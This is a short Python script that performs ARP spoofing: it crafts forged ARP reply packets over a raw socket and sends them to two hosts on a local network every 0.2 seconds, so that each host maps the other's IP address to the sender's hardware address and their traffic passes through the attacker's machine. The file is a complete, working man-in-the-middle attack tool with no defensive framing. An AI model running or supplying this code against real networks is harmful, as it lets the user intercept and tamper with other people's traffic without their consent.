"""Tells two computers of a network that the other one's address is ours (ARP, RFC 826), until it is ended.

Arguments: interface, then for each of the two its IPv4 address and its hardware address.
A raw socket takes no `unsafe` here, and no package of its own.
"""

import socket
import struct
import sys
import time

ETHERTYPE_ARP = 0x0806
REPLY = 2


def bare(mac):
    return bytes.fromhex(mac.replace(":", ""))


def main():
    interface, ip_a, mac_a, ip_b, mac_b = sys.argv[1:6]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    own = wire.getsockname()[4]
    packets = []
    for to_ip, to_mac, lie in ((ip_a, mac_a, ip_b), (ip_b, mac_b, ip_a)):
        packets.append(
            bare(to_mac) + own + struct.pack(">H", ETHERTYPE_ARP)
            + struct.pack(">HHBBH", 1, 0x0800, 6, 4, REPLY)
            + own + socket.inet_aton(lie)
            + bare(to_mac) + socket.inet_aton(to_ip)
        )
    print("spoofing", flush=True)
    while True:
        for packet in packets:
            wire.send(packet)
        time.sleep(0.2)


main()
